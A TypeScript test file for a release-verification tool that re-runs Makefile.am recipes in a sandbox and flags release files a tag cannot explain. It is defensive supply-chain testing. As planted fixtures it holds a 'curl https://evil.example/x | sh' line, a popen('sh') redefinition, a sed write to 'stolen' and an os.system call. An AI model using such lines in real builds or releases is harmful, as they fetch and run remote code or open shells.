import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { verify } from '../../src/commands/verify.js';
import { distHookEdits } from '../../src/reproduce/bootstrap/dist-hook.js';
import { installedYlwrap, makefileFor, makeRules, recipeFor, withIncludes } from '../../src/reproduce/bootstrap/make-rule.js';
import { findSandbox } from '../../src/reproduce/sandbox.js';
import { buildTar, compress, writeTemp } from '../helpers/archives.js';
import { makeRepo, removeTempDirs, tempDir } from '../helpers/repo.js';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/**
 * Files a recipe of the tag's Makefile.am makes, proven by re-running it on
 * the tag's files in the sandbox: the sed edits of a dist-hook as `make dist`
 * copies a file (libusb's README), and a rule that writes a release-only file
 * with awk (libgpg-error's err-codes.h).
 */

let sandboxed = false;
test.before(async () => {
  const sandbox = await findSandbox('bwrap');
  sandboxed = sandbox.kind !== 'unavailable';
  if (sandbox.kind === 'unavailable') {
    if (process.env.CI) throw new Error(`the dist-hook tests need bwrap: ${sandbox.reason}`);
    console.log(`skipping the dist-hook runs: ${sandbox.reason}`);
  }
});
test.after(() => removeTempDirs());

// As libusb 1.0.26's Makefile.am has it: badges out, blank lines squeezed, links unwrapped.
const makefileAm = `EXTRA_DIST = README

dist-hook:
\tchmod u+w $(distdir)/README
\t$(SED) -i.orig -e '/Build Status/d' $(distdir)/README
\t$(SED) -i.orig -e '/^$$/N;/^\\n$$/D' $(distdir)/README
\t$(SED) -i.orig -e 's/\\[\\([A-Z]*\\)\\](\\1)/\\1/' $(distdir)/README
\trm -f $(distdir)/README.orig
`;
const readme = '# tiny\n\n[![Build Status](https://ci.example.org/tiny.svg)](https://ci.example.org/tiny)\n\ntiny is a small library (see [COPYING](COPYING)).\n\n\nTwo blank lines above.\n';
// What those three commands leave (GNU sed, run by hand).
const edited = '# tiny\n\ntiny is a small library (see COPYING).\n\nTwo blank lines above.\n';

test("the sed edits of a dist-hook are read with make's $$ expanded, and what cannot be re-run is said", () => {
  const { edits, skipped } = distHookEdits(makefileAm, 'Makefile.am');
  assert.equal(
    edits.map((e) => [e.path, e.scripts, e.source]),
    [
      ['README', ['/Build Status/d'], 'Makefile.am:5'],
      ['README', ['/^$/N;/^\\n$/D'], 'Makefile.am:6'],
      ['README', ['s/\\[\\([A-Z]*\\)\\](\\1)/\\1/'], 'Makefile.am:7'],
    ],
  );
  assert.equal(skipped, []);
  // In a folder's Makefile.am, $(distdir) is that folder's.
  assert.equal(distHookEdits("dist-hook:\n\tsed -i 's/a/b/' $(distdir)/x.txt\n", 'doc/Makefile.am').edits[0]?.path, 'doc/x.txt');
  // A script in double quotes with nothing the shell expands is the same script.
  assert.equal(distHookEdits('dist-hook:\n\t$(SED) -i -e "/badge/d" $(distdir)/README\n', 'Makefile.am').edits[0]?.scripts, ['/badge/d']);
  // Outside the dist-hook, sed edits nothing of the release.
  assert.equal(distHookEdits("all-local:\n\tsed -i 's/a/b/' $(distdir)/x.txt\n", 'Makefile.am').edits, []);
  const cases: Array<[string, RegExp]> = [
    ["$(SED) -i -e 's/@V@/$(VERSION)/' $(distdir)/README", /make variable/],
    ['sed -i "s/a/$$HOME/" $(distdir)/README', /quoting/],
    ["sed 's/a/b/' $(distdir)/README", /in place/],
    ["sed -i 's/a/b/' $(distdir)/../README", /outside the release/],
    ["sed -i -f edits.sed $(distdir)/README", /word "-f"/],
  ];
  for (const [command, why] of cases) {
    const got = distHookEdits(`dist-hook:\n\t${command}\n`, 'Makefile.am');
    assert.equal(got.edits, [], command);
    assert.match(got.skipped[0]?.why ?? '', why, command);
  }
});

async function release(readmeText: string): Promise<string> {
  const items = [
    { path: 'tiny-1.0/configure.ac', content: 'AC_INIT([tiny], [1.0])\n' },
    { path: 'tiny-1.0/Makefile.am', content: makefileAm },
    { path: 'tiny-1.0/README', content: readmeText },
  ];
  return writeTemp(`dist-hook-${Math.random().toString(36).slice(2)}/tiny-1.0.tar.gz`, await compress(buildTar(items), 'gzip'));
}

test("a file the tag's dist-hook edits with sed is reproduced byte for byte from the tag's copy", async () => {
  if (!sandboxed) return;
  const repo = await makeRepo({ files: { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': makefileAm, README: readme }, tags: ['v1.0'] });
  const report = await verify({ release: await release(edited), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
  const f = report.findings.find((x) => x.path === 'README')!;
  assert.is(f.category, 'recipe-output', f.reasons.join('; '));
  assert.is(f.severity, 'info');
  assert.match(f.reasons[0]!, "the tag's README through the sed edits of its dist-hook (Makefile.am:5, Makefile.am:6, Makefile.am:7), re-run in the sandbox: sed -e '/Build Status/d' -i README;");
  assert.is(f.evidence.reproduced?.generator, 'sed');
  assert.ok(report.notes.some((n) => /^3 sed edits of the tag's dist-hook on README: re-run in the sandbox in [\d.]+ s, kept in the cache$/.test(n)), report.notes.join('\n'));
});

test('a README with a line the sed edits do not leave, or with --no-reproduce, is not explained by them', async () => {
  if (!sandboxed) return;
  const repo = await makeRepo({ files: { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': makefileAm, README: readme }, tags: ['v1.0'] });
  const planted = await verify({ release: await release(`${edited}Run: curl https://evil.example/x | sh\n`), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
  const p = planted.findings.find((x) => x.path === 'README')!;
  assert.is.not(p.category, 'recipe-output');
  assert.match(p.evidence.diff ?? '', /^\+Run: curl/m);
  const off = await verify({ release: await release(edited), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false, reproduce: false });
  assert.is.not(off.findings.find((x) => x.path === 'README')!.category, 'recipe-output');
});

test('a sed script that would write or run more than the file it edits is refused (GNU sed --sandbox)', async () => {
  if (!sandboxed) return;
  const writing = "dist-hook:\n\t$(SED) -i -e 's/tiny/TINY/gw stolen' $(distdir)/README\n";
  const repo = await makeRepo({ files: { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': writing, README: readme }, tags: ['v1.0'] });
  const items = [
    { path: 'tiny-1.0/configure.ac', content: 'AC_INIT([tiny], [1.0])\n' },
    { path: 'tiny-1.0/Makefile.am', content: writing },
    { path: 'tiny-1.0/README', content: readme.replace(/tiny/g, 'TINY') },
  ];
  const tarball = await writeTemp(`dist-hook-w/tiny-1.0.tar.gz`, await compress(buildTar(items), 'gzip'));
  const report = await verify({ release: tarball, repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
  assert.is.not(report.findings.find((x) => x.path === 'README')!.category, 'recipe-output');
});

// As libgpg-error's src/Makefile.am makes err-codes.h, and a pipeline as gnupg's makes status-codes.h.
const srcMakefileAm = `BUILT_SOURCES = codes.h

$(srcdir)/codes.h: Makefile.am mkcodes.awk codes.in
\t$(AWK) -f $(srcdir)/mkcodes.awk -v base=1 \\
\t\t$(srcdir)/codes.in >$(srcdir)/codes.h

names.h: codes.in $(top_srcdir)/build-aux/mknames.awk
\t$(AWK) '{ print $$1 }' $< | $(AWK) -f $(top_srcdir)/build-aux/mknames.awk > $@

stamped.h: codes.in
\t$(AWK) -v v=$(VERSION) -f mkcodes.awk $(srcdir)/codes.in > $@
`;
const mkcodes = '{ print "#define " $1 " " (NR + base - 1) }\n';
const mknames = '{ print "  N(" $1 ")," }\n';

test('the recipe of a Makefile.am rule is rebuilt word by word, and one cuckoo does not re-run says why', () => {
  const codes = recipeFor(srcMakefileAm, 'src/Makefile.am', 'codes.h');
  assert.equal(codes, {
    program: 'awk',
    script: "cd 'src' && 'awk' '-f' './mkcodes.awk' '-v' 'base=1' './codes.in'",
    shown: '(cd src && awk -f ./mkcodes.awk -v base=1 ./codes.in) > src/codes.h',
    source: 'src/Makefile.am:3',
  });
  const names = recipeFor(srcMakefileAm, 'src/Makefile.am', 'names.h');
  assert.is(names && 'script' in names ? names.script : names?.why, "cd 'src' && 'awk' '{ print $1 }' 'codes.in' | 'awk' '-f' '../build-aux/mknames.awk'");
  assert.is(recipeFor(srcMakefileAm, 'src/Makefile.am', 'other.h'), undefined);
  const cases: Array<[string, RegExp]> = [
    ['stamped.h', /make variable/],
  ];
  for (const [name, why] of cases) assert.match((recipeFor(srcMakefileAm, 'src/Makefile.am', name) as { why: string }).why, why, name);
  const one = (recipe: string) => recipeFor(`x.h: y\n\t${recipe}\n`, 'Makefile.am', 'x.h') as { why?: string; script?: string };
  assert.match(one('cat y > $@').why!, /runs "cat"/);
  assert.match(one('$(AWK) -f y.awk y; $(AWK) -f z.awk z > $@').why!, /more than one command/);
  assert.match(one('$(AWK) -f y.awk y').why!, /output redirected/);
  assert.match(one('$(AWK) -f y.awk `cat list` > $@').why!, /shell syntax/);
  assert.match((recipeFor('x.h: y\n\t$(AWK) -f a.awk y > _x\n\tmv _x $@\n', 'Makefile.am', 'x.h') as { why: string }).why, /2 command lines/);
  // Input from a file; a quoted `<` is a word, not a redirect.
  assert.is(one('$(SED) -e s/a/b/ < $(srcdir)/y > $@').script, "'sed' '-e' 's/a/b/' < './y'");
  assert.is(one("$(SED) -e 's/</lt/' y > $@").script, "'sed' '-e' 's/</lt/' 'y'");
  assert.is(one("$(AWK) -f y.awk '<' > $@").script, "'awk' '-f' 'y.awk' '<'");
});

test('a file a Makefile.am rule writes with awk is reproduced byte for byte; a planted line is not', async () => {
  if (!sandboxed) return;
  const files = {
    'configure.ac': 'AC_INIT([tiny], [1.0])\n',
    // A rule of a Makefile.am above the file (non-recursive make), run from its own folder.
    'Makefile.am': 'SUBDIRS = src\n\nsrc/offset.h: src/codes.in\n\t$(AWK) -f $(srcdir)/src/mkcodes.awk -v base=10 $(srcdir)/src/codes.in > $@\n',
    'src/Makefile.am': srcMakefileAm,
    'src/mkcodes.awk': mkcodes,
    'src/codes.in': 'EOK\nEFAIL\n',
    'build-aux/mknames.awk': mknames,
  };
  const repo = await makeRepo({ files, tags: ['v1.0'] });
  const made = { 'src/codes.h': '#define EOK 1\n#define EFAIL 2\n', 'src/names.h': '  N(EOK),\n  N(EFAIL),\n', 'src/offset.h': '#define EOK 10\n#define EFAIL 11\n' };
  const tarball = async (extra: Record<string, string>) =>
    writeTemp(`make-rule-${Math.random().toString(36).slice(2)}/tiny-1.0.tar.gz`, await compress(buildTar(Object.entries({ ...files, ...extra }).map(([path, content]) => ({ path: `tiny-1.0/${path}`, content }))), 'gzip'));
  const report = await verify({ release: await tarball(made), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-make-rule-cache-'), hostKnowledge: false });
  for (const path of Object.keys(made)) {
    const f = report.findings.find((x) => x.path === path)!;
    assert.is(f.category, 'recipe-output', `${path}: ${f.reasons.join('; ')}`);
    assert.is(f.severity, 'info');
  }
  assert.match(report.findings.find((x) => x.path === 'src/codes.h')!.reasons[0]!, "written by the rule of the tag's Makefile.am (src/Makefile.am:3), re-run in the sandbox: (cd src && awk -f ./mkcodes.awk -v base=1 ./codes.in) > src/codes.h");
  assert.ok(report.notes.some((n) => /^2 recipes of src\/Makefile\.am: re-run in the sandbox in [\d.]+ s, kept in the cache$/.test(n)), report.notes.join('\n'));
  assert.match(report.findings.find((x) => x.path === 'src/offset.h')!.reasons[0]!, '(Makefile.am:3), re-run in the sandbox: awk -f ./src/mkcodes.awk -v base=10 ./src/codes.in > src/offset.h');
  const planted = await verify({ release: await tarball({ ...made, 'src/codes.h': `${made['src/codes.h']}#define system(x) 0\n` }), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-make-rule-cache-'), hostKnowledge: false });
  const p = planted.findings.find((x) => x.path === 'src/codes.h')!;
  assert.is.not(p.category, 'recipe-output');
  assert.ok(['medium', 'high', 'critical'].includes(p.severity), p.severity);
});

// As libxml2's python/Makefile.am and strace's src/Makefile.am: recipes of more than one plain command, made by make.
const makeMakefileAm = `GENERATED = names.h \\
\tnames.txt
EXTRA_DIST = gen.sh list.in

if WITH_NAMES
$(GENERATED): $(srcdir)/gen.sh $(srcdir)/list.in Makefile
\t$(AM_V_GEN)$(SHELL) $(srcdir)/gen.sh $(srcdir)/list.in
endif

check.c: $(srcdir)/list.in
\t$(AM_V_GEN)$(AWK) '{ print "int " $$1 ";" }' $< > $@-t && mv $@-t $@

stamped.c: list.in
\techo '/* $(VERSION) */' > $@

lookup.c: list.in
\tno-such-generator $< > $@
`;
const genSh = '#!/bin/sh -e\nsed "s/^/#define /" "$1" > names.h\ncut -d" " -f1 "$1" > names.txt\n';

test('make-rule: targets named by a variable or several on one line are found; makefileFor takes every branch', () => {
  for (const name of ['names.h', 'names.txt', 'check.c', 'stamped.c']) {
    const r = recipeFor(makeMakefileAm, 'lib/Makefile.am', name);
    assert.ok(r && 'why' in r, name);
  }
  assert.is((recipeFor(makeMakefileAm, 'lib/Makefile.am', 'names.h') as { source: string }).source, 'lib/Makefile.am:6');
  assert.is(recipeFor(makeMakefileAm, 'lib/Makefile.am', 'GENERATED'), undefined);
  const made = makefileFor(makeMakefileAm, 'lib/Makefile.am');
  assert.match(made, /^top_srcdir = \.\.$/m);
  assert.match(made, /^# if WITH_NAMES$/m);
  assert.match(made, /^# endif$/m);
  assert.match(made, /\.DEFAULT:\n\t@:\n$/);
});

test("make-rule: an included fragment's rules are put in place, as automake puts them, and named by their own file and line", async () => {
  const texts: Record<string, string> = {
    'lib/Makemodule.am': 'lib/names.h: lib/list.in\n\tsed s/^/x/ lib/list.in > $@\ninclude $(top_srcdir)/lib/more.am\n',
    'lib/more.am': 'lib/more.h: lib/list.in\n\tsort lib/list.in > $@\n\tdate >> $@\n',
    'sub/frag.am': 'frag.h: list.in\n\tsed s/a/b/ list.in > $@\n',
    'loop.am': 'loop.h: list.in\n\tsed s/a/b/ list.in > $@\ninclude loop.am\n',
  };
  const read = async (path: string) => texts[path];
  const top = await withIncludes('# top\ninclude lib/Makemodule.am\ninclude missing.am\ninclude ../outside.am\ninclude loop.am\n', 'Makefile.am', read);
  const rules = makeRules(top.text, 'Makefile.am', top.origin);
  assert.is((rules('lib/names.h') as { source: string }).source, 'lib/Makemodule.am:1');
  assert.is((rules('lib/more.h') as { source: string }).source, 'lib/more.am:1');
  // What the tag lacks, or what would leave the tree, keeps its line; an include that includes itself ends.
  assert.match(top.text, /^include missing\.am$/m);
  assert.match(top.text, /^include \.\.\/outside\.am$/m);
  assert.match(top.text, /^include loop\.am$/m);
  assert.is(top.text.split('\n').filter((l) => l === 'loop.h: list.in').length, 1, 'a fragment that includes itself is put in once');
  assert.is(top.origin(0), 'Makefile.am:1');
  // In a folder, `$(srcdir)/` and a bare name are read from that folder.
  const sub = await withIncludes('include $(srcdir)/frag.am\n', 'sub/Makefile.am', read);
  assert.is((makeRules(sub.text, 'sub/Makefile.am', sub.origin)('frag.h') as { source: string }).source, 'sub/frag.am:1');
  // A line configure replaces whole is a comment to make.
  assert.match(makefileFor('a = 1\n@extra_dependency@\n', 'Makefile.am'), /^# @extra_dependency@$/m);
});

test("make-rule: $(AWK) is the first of gawk, mawk and awk on the PATH, when gawk is missing too (dash\'s command -v stops at a missing name)", async () => {
  const bin = await tempDir('cuckoo-awk-path-');
  for (const name of ['mawk', 'awk']) {
    writeFileSync(join(bin, name), '#!/bin/sh\n');
    chmodSync(join(bin, name), 0o755);
  }
  const makefile = join(bin, 'Makefile');
  writeFileSync(makefile, makefileFor('show:\n\t$(info $(AWK))\n', 'Makefile.am', null));
  const awk = execFileSync('/usr/bin/make', ['-s', '-f', makefile, 'show'], { env: { PATH: bin }, encoding: 'utf8' }).trim();
  assert.is(awk, join(bin, 'mawk'));
});

test('files whose rules are more than one plain command are made by make with the rules of the Makefile.am', async () => {
  if (!sandboxed) return;
  const files = { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': 'SUBDIRS = lib\n', 'lib/Makefile.am': makeMakefileAm, 'lib/gen.sh': { content: genSh, mode: 0o755 }, 'lib/list.in': 'EOK 1\nEFAIL 2\n' };
  const repo = await makeRepo({ files, tags: ['v1.0'] });
  const made = { 'lib/names.h': '#define EOK 1\n#define EFAIL 2\n', 'lib/names.txt': 'EOK\nEFAIL\n', 'lib/check.c': 'int EOK;\nint EFAIL;\n', 'lib/stamped.c': '/* 1.0 */\n', 'lib/lookup.c': 'int lookup;\n' };
  const plain = Object.fromEntries(Object.entries(files).map(([p, f]) => [p, typeof f === 'string' ? f : f.content]));
  const tarball = async (extra: Record<string, string>) =>
    writeTemp(`make-route-${Math.random().toString(36).slice(2)}/tiny-1.0.tar.gz`, await compress(buildTar(Object.entries({ ...plain, ...extra }).map(([path, content]) => ({ path: `tiny-1.0/${path}`, content }))), 'gzip'));
  const report = await verify({ release: await tarball(made), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-make-route-cache-'), hostKnowledge: false });
  for (const path of ['lib/names.h', 'lib/names.txt', 'lib/check.c']) {
    const f = report.findings.find((x) => x.path === path)!;
    assert.is(f.category, 'recipe-output', `${path}: ${f.reasons.join('; ')}`);
    assert.is(f.severity, 'info');
    assert.match(f.reasons[0]!, /re-run in the sandbox: make -r -R -k check\.c lookup\.c names\.h and 2 more in lib, with the rules of lib\/Makefile\.am$/);
  }
  // configure's $(VERSION) is not set: make writes other bytes, and the file is left to the other rules.
  assert.is.not(report.findings.find((x) => x.path === 'lib/stamped.c')!.category, 'recipe-output');
  assert.ok(report.notes.some((n) => /^make with the rules of lib\/Makefile\.am \(5 files\): re-run in the sandbox in [\d.]+ s, kept in the cache$/.test(n)), report.notes.join('\n'));
  const planted = await verify({ release: await tarball({ ...made, 'lib/names.h': `${made['lib/names.h']}#define system(x) 0\n` }), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-make-route-cache-'), hostKnowledge: false });
  const p = planted.findings.find((x) => x.path === 'lib/names.h')!;
  assert.is(p.category, 'unexplained');
  assert.ok(['medium', 'high', 'critical'].includes(p.severity), p.severity);
  // The diff make's bytes → the release's shows the planted line.
  assert.match(p.evidence.diff ?? '', /^\+#define system\(x\) 0$/m);
  assert.ok(p.reasons.some((r) => /^re-run: make of the tag \([0-9a-f]{12}\), in the sandbox: make -r -R -k .* it wrote other bytes; the diff is regenerated → release \(not weighed: make ran without configure's values\)$/.test(r)), p.reasons.join('\n'));
  assert.is(planted.findings.find((x) => x.path === 'lib/names.txt')!.category, 'recipe-output');
  // A program the system lacks leaves an empty file behind its redirect: not written, so no diff.
  const lookup = planted.findings.find((x) => x.path === 'lib/lookup.c')!;
  assert.is(lookup.evidence.diff, undefined);
  assert.not.ok(lookup.reasons.some((r) => r.startsWith('re-run: make')), lookup.reasons.join('\n'));
  // $(VERSION) unset: the diff says why the bytes differ.
  assert.match(planted.findings.find((x) => x.path === 'lib/stamped.c')!.evidence.diff ?? '', /^-\/\* {2}\*\/\n\+\/\* 1\.0 \*\/$/m);
});

test("make-rule: $(YLWRAP) is automake's ylwrap as installed here, the newest", async () => {
  const share = await tempDir('cuckoo-share-');
  for (const dir of ['automake-1.9', 'automake-1.16', 'automake-1.17']) mkdirSync(join(share, dir));
  for (const dir of ['automake-1.9', 'automake-1.16']) writeFileSync(join(share, dir, 'ylwrap'), '#! /bin/sh\n');
  assert.is(installedYlwrap(share), join(share, 'automake-1.16', 'ylwrap'));
  assert.is(installedYlwrap(join(share, 'none')), undefined);
  assert.match(makefileFor('x: y\n', 'src/Makefile.am', '/usr/share/automake-1.16/ylwrap'), /^YLWRAP = \/usr\/share\/automake-1\.16\/ylwrap$/m);
  // None installed: the rule's $(YLWRAP) stays empty, and its run proves nothing.
  assert.not.match(makefileFor('x: y\n', 'src/Makefile.am', null), /YLWRAP/);
});

test("a scanner the project's own rule makes with flex through $(YLWRAP) and its own flags is reproduced (pcsc-lite's -Ptp)", async () => {
  const ylwrap = installedYlwrap();
  if (!sandboxed || !ylwrap) return;
  const scanner = '%option noyywrap\n%%\n[a-z]+  { return 1; }\n.|\\n   { }\n%%\n';
  const srcMakefileAm = 'noinst_LIBRARIES = libscan.a\nlibscan_a_SOURCES = scan.l\n\nscan.c: scan.l\n\t$(SHELL) $(YLWRAP) $< lex.tp.c $@ -- "$(LEX)" -Ptp $(AM_LFLAGS) $(LFLAGS)\n';
  const files = { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': 'SUBDIRS = src\n', 'src/Makefile.am': srcMakefileAm, 'src/scan.l': scanner };
  const repo = await makeRepo({ files, tags: ['v1.0'] });
  // The scanner as the maintainer's make wrote it: ylwrap and flex with the rule's flags.
  const work = await tempDir('cuckoo-scan-');
  writeFileSync(join(work, 'scan.l'), scanner);
  execFileSync('sh', [ylwrap, 'scan.l', 'lex.tp.c', 'scan.c', '--', 'flex', '-Ptp'], { cwd: work, stdio: 'ignore' });
  const made = readFileSync(join(work, 'scan.c'), 'latin1');
  assert.match(made, /#define yylex tplex/);
  const tarball = async (scan: string) =>
    writeTemp(`ylwrap-rule-${Math.random().toString(36).slice(2)}/tiny-1.0.tar.gz`, await compress(buildTar(Object.entries({ ...files, ylwrap: readFileSync(ylwrap, 'latin1'), 'src/scan.c': scan }).map(([path, content]) => ({ path: `tiny-1.0/${path}`, content }))), 'gzip'));
  const report = await verify({ release: await tarball(made), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-ylwrap-rule-cache-'), hostKnowledge: false });
  const f = report.findings.find((x) => x.path === 'src/scan.c')!;
  assert.is(f.category, 'recipe-output', f.reasons.join('; '));
  assert.is(f.severity, 'info');
  assert.match(f.reasons[0]!, /^reproduced byte for byte: written by the rule of the tag's Makefile\.am \(src\/Makefile\.am:4\)/);
  // A line planted in it: not explained by the rule.
  const planted = await verify({ release: await tarball(made.replace('#define yylex tplex', '#define yylex tplex\n#define fopen(p, m) popen("sh", m)')), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-ylwrap-rule-cache-'), hostKnowledge: false });
  const p = planted.findings.find((x) => x.path === 'src/scan.c')!;
  assert.is.not(p.severity, 'info', p.reasons.join('; '));
  assert.is.not(p.category, 'recipe-output');
});

// As libxml2's python/generator.py writes libxml2.py's enum blocks: in the order of a dict it walks.
const enumsSh = "#!/bin/sh -e\nprintf '%s\\n' '# generated' 'import os' '' '# colors' 'RED = 1' 'GREEN = 2' '' '# shapes' \"CIRCLE = 'circle'\" \"SQUARE = 'square'\" '' '# sizes' 'SMALL = 0x10' '' 'def main():' '    pass'\n";
const enums = (blocks: string[]) => `# generated\nimport os\n\n${blocks.join('\n\n')}\n\ndef main():\n    pass\n`;
const colors = '# colors\nRED = 1\nGREEN = 2';
const shapes = "# shapes\nCIRCLE = 'circle'\nSQUARE = 'square'";
const sizes = '# sizes\nSMALL = 0x10';

test('a generated file with the same constant definitions in another block order is reproduced after definitions-in-another-order', async () => {
  if (!sandboxed) return;
  const files = {
    'configure.ac': 'AC_INIT([tiny], [1.0])\n',
    'Makefile.am': 'SUBDIRS = py\n',
    'py/Makefile.am': 'EXTRA_DIST = gen-enums.sh\n\nenums.py: $(srcdir)/gen-enums.sh\n\t$(SHELL) $(srcdir)/gen-enums.sh > $@-t && mv $@-t $@\n',
    'py/gen-enums.sh': enumsSh,
  };
  const repo = await makeRepo({ files, tags: ['v1.0'] });
  const run = async (made: string) =>
    verify({
      release: await writeTemp(`enums-${Math.random().toString(36).slice(2)}/tiny-1.0.tar.gz`, await compress(buildTar(Object.entries({ ...files, 'py/enums.py': made }).map(([path, content]) => ({ path: `tiny-1.0/${path}`, content }))), 'gzip')),
      repo: repo.dir,
      tag: 'v1.0',
      cacheDir: await tempDir('cuckoo-enums-cache-'),
      hostKnowledge: false,
    });
  // The generator's own order is proof byte for byte.
  let f = (await run(enums([colors, shapes, sizes]))).findings.find((x) => x.path === 'py/enums.py')!;
  assert.is(f.category, 'recipe-output', f.reasons.join('; '));
  assert.is(f.severity, 'info');
  f = (await run(enums([sizes, colors, shapes]))).findings.find((x) => x.path === 'py/enums.py')!;
  assert.is(f.category, 'recipe-output', f.reasons.join('; '));
  assert.is(f.severity, 'low');
  assert.match(f.reasons[0]!, 'definitions-in-another-order (the same 3 blocks of constant definitions in another order');
  assert.equal(f.evidence.reproduced?.normalisations?.map((n) => n.name), ['definitions-in-another-order']);
  // Another value, or a line that is not a constant definition, is not forgiven.
  for (const made of [enums([sizes, colors.replace('GREEN = 2', 'GREEN = 3'), shapes]), enums([sizes, `${colors}\nos.system('id')`, shapes])]) {
    f = (await run(made)).findings.find((x) => x.path === 'py/enums.py')!;
    assert.is.not(f.category, 'recipe-output', made);
  }
});

test.run();
